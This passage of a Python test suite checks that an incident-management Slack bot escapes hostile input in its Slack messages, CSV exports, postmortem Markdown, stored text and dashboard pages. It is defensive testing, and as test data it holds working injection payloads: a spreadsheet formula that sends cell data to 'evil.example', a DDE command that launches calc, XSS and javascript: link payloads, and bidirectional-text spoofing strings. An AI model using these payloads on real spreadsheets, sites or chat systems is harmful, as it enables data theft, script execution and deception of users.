            f"stamp_phase_{stamp}", "1", user="U_ALICE", channel=room, message_ts=incident.control_message_ts
        )
        assert response.status == 200
        answers.append(response.text)
        await bot.settle()
    assert (await bot.incident(1)).timeline.restored

    # What reached Slack: the hostile text arrived (escaped) and nothing of it is live.
    seen = list(outbound_texts(fake_slack, answers))
    live = [(where, text) for where, text in seen if injections(text)]
    assert live == [], "live mentions or links from typed text reached Slack:\n" + "\n".join(map(repr, live))
    methods_with_it = {where for where, text in seen if "&lt;!channel&gt;" in text or "&lt;script&gt;" in text}
    for expected in ("chat.postMessage", "chat.update", "conversations.setTopic", "response_url", "HTTP answer"):
        assert expected in methods_with_it, f"no {expected} carried the hostile text: the flow did not exercise it"
    assert "chat.postEphemeral" in methods_with_it, "the catch-up did not carry the hostile text"
    refusals = [text for where, text in seen if where == "response_url" and "`&lt;" in text]
    assert any(text.startswith("I can't read `&lt;!channel&gt;`") for text in refusals), refusals  # quoted as typed
    escalation_dms = [c for c in fake_slack.calls_to("chat.postMessage") if c.args["channel"] == ESCALATION_CONTACT]
    assert escalation_dms and all("&lt;!channel&gt;" in c.args["text"] for c in escalation_dms)
    announcement = [m["text"] for m in fake_slack.channels[announce_channel].messages]
    assert any("is not mitigated" in text and "&lt;!channel&gt;" in text for text in announcement)

    # The postmortem draft: no HTML, no javascript: link, the text still there.
    [draft] = [f for f in fake_slack.files.values() if f["filename"].endswith("postmortem.md")]
    markdown = draft["content"].decode() if isinstance(draft["content"], bytes) else draft["content"]
    assert "&lt;script&gt;" in markdown and "<script" not in markdown.lower()
    assert "](javascript:" not in markdown and "[click]\\(javascript:alert(1))" in markdown


# ---------------------------------------------------------------------------------------------
# CSV files: export, import, statistics

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "'=quoted by hand",
    "Plain title",
]


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_csv_cell_that_a_spreadsheet_would_run_is_quoted():
    facts = [
        facts_from_minutes(n + 1, T0 - timedelta(days=n), (2, 10, 5, 3), severity="P2", service=FORMULAS[n % len(FORMULAS)])
        for n in range(12)
    ]
    report = build_report(facts, since=T0 - timedelta(days=30), until=T0, now=T0, tiers=TIERS)
    cells = csv_cells(report_csv(report, "service"))
    assert "'" + FORMULAS[0] in cells
    assert not [cell for cell in cells if re.match(r"[=+\-@\t\r]", cell)]


async def test_an_exported_csv_runs_no_formula_and_imports_back_as_stored(cli_db, second_database_url, command):
    work, url = cli_db
    source = io.StringIO()
    writer = csv.writer(source, lineterminator="\n")
    writer.writerow(["id", "title", "severity", "service", "detection_method", "started_at", "detected_at", "verified_at"])
    for n, title in enumerate(FORMULAS):
        writer.writerow(
            [
                "=1+1" if n == 0 else f"X-{n}",
                title,
                "P2",
                "payments-api",
                "alert",
                "2026-03-02T09:12:00Z",
                "2026-03-02T09:15:30Z",
                "2026-03-02T10:20:00Z",
            ]
        )
    (work / "in.csv").write_text(source.getvalue())
    result = await command(work, "import", "in.csv", "--format", "csv", database_url=url)
    assert result.returncode == 0, result.stderr

    exported = await command(work, "export", "--format", "csv", database_url=url)
    assert exported.returncode == 0, exported.stderr
    cells = csv_cells(exported.stdout)
    assert not [cell for cell in cells if re.match(r"[=+\-@\t\r]", cell)], "a cell a spreadsheet would run"
    # A leading quote before a formula marks text, as in a spreadsheet: "'=quoted by hand" is stored as "=quoted by hand".
    stored = [spreadsheet_text(title) for title in FORMULAS]
    assert {spreadsheet_cell(title) for title in stored} | {"'=1+1"} <= set(cells)

    # Into a fresh database, the export reads back as what was stored.
    fresh = second_database_url  # as `incident-bot db upgrade` makes a new one
    (work / "export.csv").write_text(exported.stdout)
    again = await command(work, "import", "export.csv", "--format", "csv", database_url=fresh)
    assert again.returncode == 0, again.stderr
    round_trip = await command(work, "export", "--format", "csv", database_url=fresh)
    rows = list(csv.DictReader(io.StringIO(round_trip.stdout)))
    assert sorted(spreadsheet_text(row["title"]) for row in rows) == sorted(stored)
    assert "=1+1" in [spreadsheet_text(row["id"]) for row in rows]  # the external id came back as itself
    original = {(row["title"], row["started_at"], row["verified_at"]) for row in csv.DictReader(io.StringIO(exported.stdout))}
    assert {(row["title"], row["started_at"], row["verified_at"]) for row in rows} == original


# ---------------------------------------------------------------------------------------------
# The postmortem draft (Markdown)

HOSTILE_MARKDOWN = (
    "<script>alert(1)</script> <img src=x onerror=alert(1)> [click](javascript:alert(1)) "
    "![pixel](data:text/html;base64,PHNjcmlwdD4=) [spaced]( JaVaScRiPt:alert(1)) [entity](&#106;avascript:alert(1)) "
    "<javascript:alert(1)> [runbook](https://example.com/runbook) [mail](mailto:oncall@example.com) &amp; &lt;b&gt;"
)


def rendered_draft(text: str) -> str:
    from bot.warroom.postmortem import ActionLine, Changes, TimelineEntry, load_template, render_postmortem

    incident = hostile_incident()
    incident = IncidentRecord(**{**{f.name: getattr(incident, f.name) for f in fields(incident)}, "title": text, "service": "checkout-web"})
    note = TimelineEntry(T0 + timedelta(minutes=3), "U_ALICE", "note", text)
    multiline = TimelineEntry(T0 + timedelta(minutes=4), None, "slack_step_failed", f"{text}\n[ref]: javascript:alert(1)\n- [ref2]: data:x")
    breakglass = TimelineEntry(T0 + timedelta(minutes=5), "U_BOB", "breakglass", f"Break-glass access: {text}")
    return render_postmortem(
        load_template(),
        incident,
        [note, multiline, breakglass],
        summary.summarize(incident, TIERS),
        generated_at=T0,
        names={"U_ALICE": "<b>alice</b>", "U_BOB": "[bob](javascript:alert(1))"},
        changes=Changes(True, "2 h", (deploy_line(hostile_deploy(), mrkdwn=False),)),
        corrections=corrections.correction_notes([SimpleNamespace(**{**vars(hostile_correction_records()[0]), "reason": text})]),
        breakglass=[breakglass],
        action_items=[ActionLine(text, "<i>owner</i>", "2026-12-01", "open")],
    )


def test_the_postmortem_draft_has_no_html_and_no_link_but_http_and_mailto():
    from markdown_it import MarkdownIt

    markdown = rendered_draft(HOSTILE_MARKDOWN)
    assert "<" not in markdown  # every < the draft shows is an entity: no tag, no autolink
    assert markdown.count("[runbook](https://example.com/runbook)") >= 3 and "[mail](mailto:oncall@example.com)" in markdown
    # A CommonMark renderer with raw HTML on and no link filter of its own (as many Markdown viewers are).
    renderer = MarkdownIt("commonmark", {"html": True})
    renderer.validateLink = lambda url: True
    html = renderer.render(markdown)
    assert not re.search(r"<(script|img|b|i)\b", html, re.IGNORECASE)
    targets = re.findall(r'(?:href|src)="([^"]*)"', html)
    assert targets and all(re.match(r"(https?://|mailto:)", target) for target in targets), targets
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # the text is still there, shown as typed
    assert "&amp;lt;script" not in html  # escaped once, also in the correction notes that come escaped for Slack


# ---------------------------------------------------------------------------------------------
# Display spoofing, stored: no bidirectional control in any text column, from any surface


async def stored_texts(db) -> list[tuple[str, str, str]]:
    """(table, column, value) for every text value in every table of the schema."""
    from sqlalchemy import select

    from storage.models import Base

    found = []
    async with db.reading() as session:
        for table in Base.metadata.sorted_tables:
            for row in (await session.execute(select(table))).mappings():
                for column, value in row.items():
                    for text in [value] if isinstance(value, str) else rendered_json_texts(value):
                        found.append((table.name, column, text))
    return found


def rendered_json_texts(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from rendered_json_texts(key)
            yield from rendered_json_texts(item)
    elif isinstance(value, list):
        for item in value:
            yield from rendered_json_texts(item)


SPOOF = "Payments \u202etxt.exe\u202c down \u2066isolated\u2069 \u200fmarked\u200e \u061c"


@pytest.mark.slow
async def test_bidirectional_controls_are_stored_from_no_surface(hook_bot, fake_slack, clock):
    from bot.integrations.importing import Importer, parse_file

    bot = hook_bot
    assert (await bot.slack.command(f"open {SPOOF} sev:P3 service:checkout-web")).status == 200
    await bot.settle()
    incident = await bot.incident(1)
    fake_slack.channels[incident.channel_id].members.add("U_BOB")
    for text in (f"note {SPOOF}", f"update {SPOOF}", f"action {SPOOF}", f"breakglass {SPOOF}"):
        assert (await bot.slack.command(text, channel=incident.channel_id)).status == 200
        await bot.settle()
    await command_form_open(bot, fake_slack, SPOOF)
    status, body = await post_hook(
        bot,
        "/hooks/deploys",
        {"service": "checkout-web", "version": f"v1{SPOOF[:12]}", "author": SPOOF, "description": SPOOF, "environment": "prod\u202e"},
    )
    assert status in (200, 201), body
    status, body = await post_hook(
        bot,
        "/hooks/alerts",
        {
            "service": "payments-api",
            "title": SPOOF,
            "status": "firing",
            "dedup_key": f"k{SPOOF}",
            "severity": "warning",
            "description": SPOOF,
        },
    )
    assert status in (200, 201, 202), body
    await bot.settle()
    source = io.StringIO()
    csv.writer(source).writerows(
        [
            ["id", "title", "severity", "started_at", "detected_at"],
            ["EXT\u202e-1", SPOOF, "P3", "2026-03-02T09:12:00Z", "2026-03-02T09:15:30Z"],
        ]
    )
    parsed = parse_file(source.getvalue().encode(), "csv", now=T0)
    assert parsed.problems == []
    await Importer(bot.runtime.db, clock).run(parsed, origin="spoof.csv")

    texts = await stored_texts(bot.runtime.db)
    titles = [value for table, column, value in texts if (table, column) == ("incidents", "title")]
    assert len(titles) == 4 and all("Payments txt.exe down isolated marked" in title for title in titles), titles
    spoofed = [(table, column, value) for table, column, value in texts if re.search(f"[{BIDI}]", value)]
    assert spoofed == [], f"bidirectional controls stored: {spoofed[:5]}"


async def command_form_open(bot, fake_slack, title: str) -> None:
    views_before = set(fake_slack.views)
    assert (await bot.slack.command("open")).status == 200
    await bot.settle()
    [view_id] = set(fake_slack.views) - views_before
    response = await bot.slack.view_submission(
        fake_slack.views[view_id], open_form_values(title=title, severity="P3", service="checkout-web", started=int(T0.timestamp()) - 60)
    )
    assert response.status == 200
    await bot.settle()


async def test_the_dashboard_shows_typed_text_as_text_on_every_page(fake_slack, database_url, announce_channel):
    """Titles, notes, services and postmortem drafts on the dashboard: HTML-escaped by the templates
    (autoescape), so nothing typed becomes markup; no page carries a script at all."""
    from storage import incidents as incident_rows
    from storage.models import Postmortem
    from tests.dashboard_helpers import DashboardClient, crawl, start_dashboard_bot
    from tests.stored_incidents import incident_row

    hostile = f'{HOSTILE} <img src=x onerror="alert(1)"> </pre></table>'
    running = await start_dashboard_bot(fake_slack, database_url, announce_channel)
    try:
        now = datetime.now(UTC)
        async with running.runtime.db.transaction() as session:
            for k in range(6):
                started = now - timedelta(days=k + 1)
                row = incident_row(
                    f"{hostile} {k}",
                    started,
                    detected_at=started + timedelta(minutes=1),
                    diagnosed_at=started + timedelta(minutes=5),
                    mitigated_at=started + timedelta(minutes=9),
                    verified_at=None if k == 0 else started + timedelta(minutes=12),
                    service="payments-api",
                )
                session.add(row)
                await session.flush()
                await incident_rows.add_event(session, row.id, "note", at=started, actor="U_ALICE", text=hostile)
                session.add(Postmortem(incident_id=row.id, markdown=f"# {hostile}", created_at=started))
        async with aiohttp.ClientSession() as session:
            client = DashboardClient(session, f"http://127.0.0.1:{running.port}")
            await client.sign_in(fake_slack, "U_ALICE")
            pages = await crawl(client)
        assert len([path for path in pages if path.startswith("/dashboard/incidents/")]) == 6
        for path, (status, body) in pages.items():
            assert status == 200, path
            for live in ("<script", "<img", 'onerror="', "<http://evil", "<!channel>", "</pre></table>"):
                assert live not in body, f"{path} carries {live!r} as markup"
        assert "&lt;script&gt;" in pages["/dashboard/incidents/1"][1]
    finally:
        await running.stop()
